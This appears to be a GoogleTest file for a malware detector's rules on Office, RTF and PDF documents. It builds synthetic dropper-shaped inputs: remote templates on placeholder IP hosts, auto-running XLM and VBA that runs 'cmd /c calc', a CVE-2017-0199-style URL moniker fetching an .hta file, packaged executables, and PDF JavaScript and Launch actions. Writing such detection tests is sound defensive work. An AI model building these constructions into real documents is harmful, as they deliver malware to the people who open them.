@@ -1,0 +1,280 @@
+// The document rules for the shapes the model cannot learn from one or two sources (features::office_rule,
+// docs/office.md "Rules") and the schema v3 `active` features under them, on inputs built here: OOXML packages
+// with remote templates and XLM macro sheets, RTF objects (Equation Editor, OLE2Link with a URL moniker, objects
+// whose data is not OLE1, packaged executables) and PDFs with actions and embedded files. Each rule has a twin
+// input that differs in the one thing the rule keys on and must not be named.
+#include <gtest/gtest.h>
+
+#include <string>
+#include <vector>
+
+#include "features/office_features.hpp"
+#include "support/archive_builder.hpp"
+#include "support/cfb_builder.hpp"
+#include "support/pdf_builder.hpp"
+#include "support/rtf_builder.hpp"
+
+namespace {
+
+using namespace mamori;
+using namespace mamori::test;
+
+float feature(const features::OfficeSample& s, std::string_view name) {
+  const auto& f = features::office_schema().features;
+  for (std::size_t i = 0; i < f.size(); ++i)
+    if (f[i].name == name) return s.x[i];
+  ADD_FAILURE() << "no feature " << name;
+  return -1;
+}
+
+features::OfficeSample featurize(const std::vector<std::uint8_t>& b) {
+  return features::featurize_office(ByteView(b.data(), b.size()));
+}
+features::OfficeSample featurize(const std::string& s) {
+  return features::featurize_office(ByteView(reinterpret_cast<const std::uint8_t*>(s.data()), s.size()));
+}
+
+const char* kWordTypes =
+    "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
+    "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
+    "<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument."
+    "wordprocessingml.document.main+xml\"/></Types>";
+
+// A docx without macros whose settings part attaches the template at `target`.
+std::vector<std::uint8_t> docx_with_template(const std::string& target) {
+  const std::string rels =
+      "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
+      "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+      "attachedTemplate\" Target=\"" + target + "\" TargetMode=\"External\"/></Relationships>";
+  return make_zip({{"[Content_Types].xml", blob(kWordTypes)},
+                   {"word/document.xml", blob("<w:document xmlns:w=\"w\"><w:body><w:p/></w:body></w:document>")},
+                   {"word/settings.xml", blob("<w:settings xmlns:w=\"w\"><w:attachedTemplate r:id=\"rId1\"/></w:settings>")},
+                   {"word/_rels/settings.xml.rels", blob(rels)}});
+}
+
+TEST(OfficeRules, RemoteTemplateOnAWebHost) {
+  const auto s = featurize(docx_with_template("http://203.0.113.7/office/report.dotm"));
+  EXPECT_EQ(s.doc_type, "ooxml-word");
+  EXPECT_EQ(feature(s, "ooxml.remote_template"), 1.0f);
+  EXPECT_EQ(feature(s, "active.remote_template_web"), 1.0f);
+  EXPECT_EQ(feature(s, "active.external_ip_hosts"), 1.0f);
+  EXPECT_EQ(features::office_rule(s.x), "remote-template");
+  const auto named = featurize(docx_with_template("https://cdn.example-templates.test/a/b.dotx?x=1"));
+  EXPECT_EQ(feature(named, "active.external_ip_hosts"), 0.0f);
+  EXPECT_EQ(features::office_rule(named.x), "remote-template");
+}
+
+// What benign documents carry: the template they were made from, on the author's disk, on a share, or on
+// Microsoft's template service. Counted (the model sees them), never the rule.
+TEST(OfficeRules, LocalShareAndMicrosoftTemplatesAreNotTheRule) {
+  for (const char* t : {"file:///C:\\Users\\kim\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm",
+                        "https://templates.office.com/en-us/resume.dotx",
+                        "http://download.microsoft.com/templates/x.dotx"}) {
+    const auto s = featurize(docx_with_template(t));
+    EXPECT_EQ(feature(s, "ooxml.remote_template"), 1.0f) << t;
+    EXPECT_EQ(feature(s, "active.remote_template_web"), 0.0f) << t;
+    EXPECT_EQ(features::office_rule(s.x), "") << t;
+  }
+  const auto share = featurize(docx_with_template("file://fileserver/templates/letter.dotx"));
+  EXPECT_EQ(feature(share, "active.remote_template_unc"), 1.0f);
+  EXPECT_EQ(feature(share, "active.remote_template_web"), 0.0f);
+  EXPECT_EQ(features::office_rule(share.x), "");
+  // A look-alike host is not Microsoft's.
+  const auto lookalike = featurize(docx_with_template("https://office.com.example.test/t.dotm"));
+  EXPECT_EQ(features::office_rule(lookalike.x), "remote-template");
+}
+
+// An XLSM whose macro sheet decodes its formulas from CHAR() at run time: no EXEC in the file, only FORMULA()
+// writing text built from characters and a GOTO to it.
+std::vector<std::uint8_t> xlsm_decoder(bool auto_open) {
+  std::string chars;
+  for (int i = 0; i < 20; ++i) chars += (i ? "&" : "") + std::string("CHAR(") + std::to_string(65 + i) + ")";
+  const std::string workbook =
+      "<workbook xmlns:r=\"r\"><sheets><sheet name=\"Sheet1\" sheetId=\"1\" r:id=\"rId1\"/>"
+      "<sheet name=\"M\" sheetId=\"2\" state=\"hidden\" r:id=\"rId2\"/></sheets>" +
+      std::string(auto_open ? "<definedNames><definedName name=\"_xlnm.Auto_Open\">M!$A$1</definedName>"
+                              "</definedNames>"
+                            : "") +
+      "</workbook>";
+  const std::string rels =
+      "<Relationships><Relationship Id=\"rId1\" Type=\"x/worksheet\" Target=\"worksheets/sheet1.xml\"/>"
+      "<Relationship Id=\"rId2\" Type=\"http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet\" "
+      "Target=\"macrosheets/sheet1.xml\"/></Relationships>";
+  const std::string sheet =
+      "<xm:macrosheet xmlns:xm=\"x\"><sheetData><row r=\"1\"><c r=\"A1\"><f>FORMULA(" + chars +
+      ",B1)</f></c><c r=\"A2\"><f>GOTO(B1)</f></c></row></sheetData></xm:macrosheet>";
+  return make_zip({{"[Content_Types].xml", blob("<Types/>")},
+                   {"xl/workbook.xml", blob(workbook)},
+                   {"xl/_rels/workbook.xml.rels", blob(rels)},
+                   {"xl/macrosheets/sheet1.xml", blob(sheet)}});
+}
+
+TEST(OfficeRules, XlmThatDecodesItsFormulasInOoxml) {
+  const auto s = featurize(xlsm_decoder(true));
+  EXPECT_EQ(feature(s, "xlm.macro_sheets"), 1.0f);
+  EXPECT_EQ(feature(s, "xlm.auto_open_names"), 1.0f);
+  EXPECT_EQ(feature(s, "xlm.exec") + feature(s, "xlm.call") + feature(s, "xlm.register"), 0.0f);
+  EXPECT_GE(feature(s, "xlm.char"), 16.0f);
+  EXPECT_EQ(features::office_rule(s.x), "xlm-auto-exec");
+  // The same sheet that nothing starts.
+  const auto idle = featurize(xlsm_decoder(false));
+  EXPECT_EQ(feature(idle, "xlm.auto_open_names"), 0.0f);
+  EXPECT_EQ(features::office_rule(idle.x), "");
+}
+
+// A workbook whose VBA starts on open and whose macro sheet holds `formula` (no Auto_Open name).
+std::vector<std::uint8_t> xlsm_vba_and_sheet(const std::string& formula) {
+  VbaSpec v;
+  v.storage = "VBA";
+  v.modules = {{"ThisWorkbook",
+                "Attribute VB_Name = \"ThisWorkbook\"\r\nPrivate Sub Workbook_Open()\r\n  Run \"M!A1\"\r\nEnd Sub\r\n",
+                std::vector<std::uint8_t>(64, 0), false}};
+  CfbSpec spec;
+  spec.streams = build_vba_streams(v);
+  const auto bin = build_cfb(spec);
+  const std::string workbook =
+      "<workbook xmlns:r=\"r\"><sheets><sheet name=\"Sheet1\" sheetId=\"1\" r:id=\"rId1\"/>"
+      "<sheet name=\"M\" sheetId=\"2\" state=\"veryHidden\" r:id=\"rId2\"/></sheets></workbook>";
+  const std::string rels =
+      "<Relationships><Relationship Id=\"rId1\" Type=\"x/worksheet\" Target=\"worksheets/sheet1.xml\"/>"
+      "<Relationship Id=\"rId2\" Type=\"http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet\" "
+      "Target=\"macrosheets/sheet1.xml\"/></Relationships>";
+  const std::string sheet = "<xm:macrosheet xmlns:xm=\"x\"><sheetData><row r=\"1\"><c r=\"A1\"><f>" + formula +
+                            "</f></c></row></sheetData></xm:macrosheet>";
+  return make_zip({{"[Content_Types].xml", blob("<Types/>")},
+                   {"xl/workbook.xml", blob(workbook)},
+                   {"xl/_rels/workbook.xml.rels", blob(rels)},
+                   {"xl/macrosheets/sheet1.xml", blob(sheet)},
+                   {"xl/vbaProject.bin", bin}});
+}
+
+// Droppers that hide the XLM behind a Workbook_Open; Microsoft's Solver add-in has the same frame and REGISTERs
+// its DLL from the macro sheet, so only EXEC, a download or the decoding shape make it the rule.
+TEST(OfficeRules, XlmStartedByVba) {
+  const auto dropper = featurize(xlsm_vba_and_sheet("EXEC(\"cmd /c calc\")"));
+  EXPECT_GT(feature(dropper, "macro.autoexec"), 0.0f);
+  EXPECT_EQ(feature(dropper, "xlm.auto_open_names"), 0.0f);
+  EXPECT_EQ(feature(dropper, "xlm.exec"), 1.0f);
+  EXPECT_EQ(features::office_rule(dropper.x), "xlm-auto-exec");
+  const auto solver = featurize(xlsm_vba_and_sheet("REGISTER(\"SOLVER32.DLL\",\"Solve\",\"JJ\")"));
+  EXPECT_GT(feature(solver, "macro.autoexec"), 0.0f);
+  EXPECT_EQ(feature(solver, "xlm.register"), 1.0f);
+  EXPECT_EQ(features::office_rule(solver.x), "");
+}
+
+std::vector<std::uint8_t> filler(std::size_t n) {
+  std::vector<std::uint8_t> v(n);
+  for (std::size_t i = 0; i < n; ++i) v[i] = static_cast<std::uint8_t>(i * 7 + 3);
+  return v;
+}
+
+TEST(OfficeRules, EquationEditorObjectLoadedOnOpen) {
+  const auto data = ole1_embedded("Equation.3", filler(3000));
+  const auto s = featurize(rtf_object("Equation.3", rtf_hex(data, HexStyle::obfuscated), "\\objupdate"));
+  EXPECT_EQ(s.doc_type, "rtf");
+  EXPECT_EQ(feature(s, "active.rtf_equation_autoload"), 1.0f);
+  EXPECT_EQ(features::office_rule(s.x), "rtf-exploit-object");
+  // The same object that waits for a double click, and a tiny declared-only one that updates (oletools' test
+  // file has that shape): counted as Equation objects, not the rule.
+  const auto click = featurize(rtf_object("Equation.3", rtf_hex(data, HexStyle::plain)));
+  EXPECT_EQ(feature(click, "rtf.class_equation"), 1.0f);
+  EXPECT_EQ(features::office_rule(click.x), "");
+  const auto tiny = featurize(rtf_object("Equation.3", rtf_hex(ole1_embedded("Equation.3", filler(100)),
+                                                              HexStyle::plain), "\\objupdate"));
+  EXPECT_EQ(feature(tiny, "active.rtf_equation_autoload"), 0.0f);
+  EXPECT_EQ(features::office_rule(tiny.x), "");
+}
+
+// CVE-2017-0199's shape: an OLE2Link object whose \x01Ole stream holds a URL moniker, refreshed on open.
+TEST(OfficeRules, Ole2LinkUrlMonikerUpdatedOnOpen) {
+  std::vector<std::uint8_t> ole(20, 0);
+  const std::uint8_t url_moniker[16] = {0xE0, 0xC9, 0xEA, 0x79, 0xF9, 0xBA, 0xCE, 0x11,
+                                        0x8C, 0x82, 0x00, 0xAA, 0x00, 0x4B, 0xA9, 0x0B};
+  ole.insert(ole.end(), std::begin(url_moniker), std::end(url_moniker));
+  for (char c : std::string("http://203.0.113.9/x.hta")) ole.insert(ole.end(), {static_cast<std::uint8_t>(c), 0});
+  CfbSpec spec;
+  spec.streams = {{"\x01Ole", ole}};
+  const auto native = build_cfb(spec);
+  const auto data = ole1_embedded("Word.Document.8", native);
+  const auto s = featurize(rtf_object("Word.Document.8", rtf_hex(data, HexStyle::plain), "\\objupdate"));
+  EXPECT_EQ(feature(s, "active.rtf_link_moniker"), 1.0f);
+  EXPECT_EQ(features::office_rule(s.x), "rtf-exploit-object");
+  const auto no_update = featurize(rtf_object("Word.Document.8", rtf_hex(data, HexStyle::plain)));
+  EXPECT_EQ(feature(no_update, "active.rtf_link_moniker"), 1.0f);
+  EXPECT_EQ(features::office_rule(no_update.x), "");
+}
+
+TEST(OfficeRules, UpdatedObjectWhoseDataIsNotOle1) {
+  const auto s = featurize(rtf_object("Word.Document.8", rtf_hex(filler(600), HexStyle::plain), "\\objupdate"));
+  EXPECT_EQ(feature(s, "active.rtf_update_malformed"), 1.0f);
+  EXPECT_EQ(features::office_rule(s.x), "rtf-exploit-object");
+  const auto ok = featurize(rtf_object("Word.Document.8", rtf_hex(ole1_embedded("Word.Document.8", filler(600)),
+                                                                  HexStyle::plain), "\\objupdate"));
+  EXPECT_EQ(feature(ok, "active.rtf_update_malformed"), 0.0f);
+  EXPECT_EQ(features::office_rule(ok.x), "");
+}
+
+TEST(OfficeRules, PackagedExecutableInRtf) {
+  std::vector<std::uint8_t> pe{'M', 'Z'};
+  pe.resize(512, 0x90);
+  const auto native = package_native("invoice.exe", "C:\\t\\invoice.exe", "C:\\Temp\\invoice.exe", pe);
+  const auto s = featurize(rtf_object("Package", rtf_hex(ole1_embedded("Package", native), HexStyle::plain)));
+  EXPECT_EQ(feature(s, "active.rtf_executable_object"), 1.0f);
+  EXPECT_EQ(features::office_rule(s.x), "packaged-executable");
+  const auto txt = package_native("notes.txt", "C:\\t\\notes.txt", "C:\\Temp\\notes.txt", blob("plain text"));
+  const auto t = featurize(rtf_object("Package", rtf_hex(ole1_embedded("Package", txt), HexStyle::plain)));
+  EXPECT_EQ(feature(t, "active.rtf_executable_object"), 0.0f);
+  EXPECT_EQ(features::office_rule(t.x), "");
+}
+
+TEST(OfficeRules, PdfActionsEmbeddedFilesAndLinks) {
+  PdfSpec p;
+  p.objects = {PdfObject("<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Names << /EmbeddedFiles 6 0 R >> >>"),
+               PdfObject("<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
+               PdfObject("<< /Type /Page /Parent 2 0 R /Annots [5 0 R] >>"),
+               PdfObject("<< /S /JavaScript /JS (app.alert\\(1\\)) >>"),
+               PdfObject("<< /Type /Annot /Subtype /Link /A << /S /URI /URI (http://198.51.100.4/get/setup.exe) >> >>"),
+               PdfObject("<< /Names [(a.exe) 7 0 R] >>"),
+               PdfObject("<< /Type /Filespec /F (a.exe) /EF << /F 8 0 R >> >>"),
+               PdfObject("<< /Type /EmbeddedFile >>", "MZ" + std::string(300, '\x90'), true, true)};
+  const auto s = featurize(build_pdf(p));
+  EXPECT_EQ(s.doc_type, "pdf");
+  EXPECT_EQ(feature(s, "active.pdf_auto_javascript"), 1.0f);
+  EXPECT_EQ(feature(s, "active.pdf_auto_launch"), 0.0f);
+  EXPECT_EQ(feature(s, "active.pdf_embedded_executable"), 1.0f);
+  EXPECT_EQ(feature(s, "active.pdf_uri_hosts"), 1.0f);
+  EXPECT_EQ(feature(s, "active.pdf_uri_ip_hosts"), 1.0f);
+  EXPECT_EQ(feature(s, "active.pdf_uri_executables"), 1.0f);
+  EXPECT_EQ(features::office_rule(s.x), "packaged-executable");
+  // JavaScript on open alone is the model's to weigh (forms use it), not a rule.
+  p.objects.back() = PdfObject("<< /Type /EmbeddedFile >>", "just a text attachment", true, true);
+  const auto quiet = featurize(build_pdf(p));
+  EXPECT_EQ(feature(quiet, "active.pdf_embedded_executable"), 0.0f);
+  EXPECT_EQ(features::office_rule(quiet.x), "");
+}
+
+TEST(OfficeRules, PdfLaunchOnOpen) {
+  PdfSpec p;
+  p.objects = {PdfObject("<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>"),
+               PdfObject("<< /Type /Pages /Kids [] /Count 0 >>"),
+               PdfObject("<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>")};
+  const auto s = featurize(build_pdf(p));
+  EXPECT_EQ(feature(s, "active.pdf_auto_launch"), 1.0f);
+  EXPECT_EQ(features::office_rule(s.x), "pdf-auto-launch");
+  // The same action behind nothing that fires it on open.
+  p.objects[0] = PdfObject("<< /Type /Catalog /Pages 2 0 R >>");
+  const auto idle = featurize(build_pdf(p));
+  EXPECT_EQ(feature(idle, "active.pdf_auto_launch"), 0.0f);
+  EXPECT_EQ(features::office_rule(idle.x), "");
+}
+
+// Groups of other formats are NaN, so no rule fires on a type it was not written for.
+TEST(OfficeRules, ActiveGroupIsMissingForOtherTypes) {
+  const auto s = featurize(docx_with_template("http://203.0.113.7/t.dotm"));
+  EXPECT_TRUE(std::isnan(feature(s, "active.rtf_equation_autoload")));
+  EXPECT_TRUE(std::isnan(feature(s, "active.pdf_embedded_executable")));
+  const auto r = featurize(rtf_object("Package", rtf_hex(filler(10), HexStyle::plain)));
+  EXPECT_TRUE(std::isnan(feature(r, "active.remote_template_web")));
+}
+
+}  // namespace
